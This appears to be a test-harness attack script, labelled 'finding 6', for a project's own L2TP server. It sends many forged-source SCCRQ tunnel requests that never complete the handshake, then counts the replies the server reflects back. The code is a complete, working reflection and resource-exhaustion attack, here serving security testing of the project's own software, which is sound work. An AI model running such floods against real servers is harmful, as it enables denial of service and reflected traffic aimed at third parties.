/**
 * Attack script (runs in the attacker namespace), finding 6: SCCRQs from
 * several source addresses (as a host forging them would send) that never
 * answer the SCCRP. Each address sends `perSource` SCCRQs, each a new tunnel
 * (a new Assigned Tunnel ID), from its port 1701. It then listens `listenS`
 * seconds and counts what the server reflects to each address.
 * Args: server, listenS, perSource, address...
 * Prints `SENT n SCCRP n OTHER n`.
 */
import { createSocket, type Socket } from 'node:dgram';
import { MSG } from '../../../../src/l2tp/constants.js';
import { encodeL2tp, parseL2tpHeader } from '../../../../src/l2tp/header.js';
import { encodeL2tpMessage } from '../../../../src/l2tp/message.js';

const [server = '10.201.0.1', listenArg = '20', perSourceArg = '8', ...addresses] = process.argv.slice(2);
const listenMs = Number(listenArg) * 1000;
const perSource = Number(perSourceArg);

let sent = 0;
let sccrp = 0;
let other = 0;
const sockets: Socket[] = [];
let tunnelId = 1;
for (const address of addresses) {
  const sock = createSocket('udp4');
  await new Promise<void>((resolve) => sock.bind(1701, address, resolve));
  sock.on('message', (b: Buffer) => {
    const f = parseL2tpHeader(b);
    const body = f.ok ? b.subarray(f.value.payloadStart, f.value.payloadEnd) : undefined;
    if (body && body.length >= 8 && ((body[6]! << 8) | body[7]!) === MSG.SCCRP) sccrp++;
    else other++;
  });
  sockets.push(sock);
  for (let i = 0; i < perSource; i++) {
    const body = encodeL2tpMessage({
      messageType: MSG.SCCRQ,
      protocolVersion: { version: 1, revision: 0 },
      framingCapabilities: 3,
      hostName: `forged-${address}`,
      assignedTunnelId: tunnelId++,
      receiveWindowSize: 4,
    });
    await new Promise<void>((resolve) => sock.send(encodeL2tp({ isControl: true, tunnelId: 0, sessionId: 0, ns: 0, nr: 0, priority: false }, body), 1701, server, () => resolve()));
    sent++;
  }
}
await new Promise((r) => setTimeout(r, listenMs));
for (const s of sockets) s.close();
console.log(`SENT ${sent} SCCRP ${sccrp} OTHER ${other}`);
